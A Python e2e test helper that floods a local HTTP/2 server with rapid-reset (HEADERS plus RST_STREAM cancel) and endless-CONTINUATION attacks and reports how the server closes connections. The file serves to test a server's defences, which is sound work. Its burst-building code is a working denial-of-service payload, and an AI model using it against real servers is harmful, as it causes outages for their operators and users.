"""An HTTP/2 attacker for e2e tests, run as its own process (so that its CPU and the GIL do not
share the test's measuring thread): `python3 h2_attack.py PORT KIND SECONDS AUTHORITY`.

KIND is `rapid_reset` (HEADERS then RST_STREAM(CANCEL), 400 streams per connection) or
`continuation` (HEADERS without END_HEADERS then endless CONTINUATION frames). Each connection
floods until the server ends it; then the attacker reconnects, until SECONDS have passed.
Prints one JSON line: connections made, GOAWAY codes seen (code -> count), connections closed
without a GOAWAY, and connections still open when time ran out. Loopback only."""

import json
import sys
import time

import h2_frames as h2


def rapid_reset_burst(authority):
    fields = h2.hpack(h2.request_fields(authority, path="/rapid"))
    out = bytearray()
    for i in range(400):
        stream = 2 * i + 1
        out += h2.frame(h2.HEADERS, h2.END_STREAM | h2.END_HEADERS, stream, fields)
        out += h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4, "big"))
    return bytes(out)


def continuation_burst(authority):
    out = bytearray(h2.frame(h2.HEADERS, h2.END_STREAM, 1,
                             h2.hpack(h2.request_fields(authority, path="/cont"))))
    for i in range(400):
        out += h2.frame(h2.CONTINUATION, 0, 1, h2.hpack([(f"x-pad-{i}", "a" * 32)]))
    return bytes(out)


def main():
    port, kind, seconds, authority = int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), sys.argv[4]
    burst = {"rapid_reset": rapid_reset_burst, "continuation": continuation_burst}[kind](authority)
    end = time.monotonic() + seconds
    result = {"connections": 0, "goaway": {}, "closed_without_goaway": 0, "still_open": 0}
    while time.monotonic() < end:
        try:
            c = h2.H2Connection(port, timeout=10)
        except OSError:
            continue
        result["connections"] += 1
        try:
            c.send(burst)
        except OSError:
            pass  # closed while we were still writing: the defence working
        try:
            # At least 10 s, also for the last connection: "still open" means it lingered.
            frames = c.frames_until_close(timeout=max(10.0, end - time.monotonic()))
        except TimeoutError:
            result["still_open"] += 1
            c.close()
            break
        code = h2.goaway_code(frames)
        if code is None:
            result["closed_without_goaway"] += 1
        else:
            result["goaway"][str(code)] = result["goaway"].get(str(code), 0) + 1
        c.close()
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
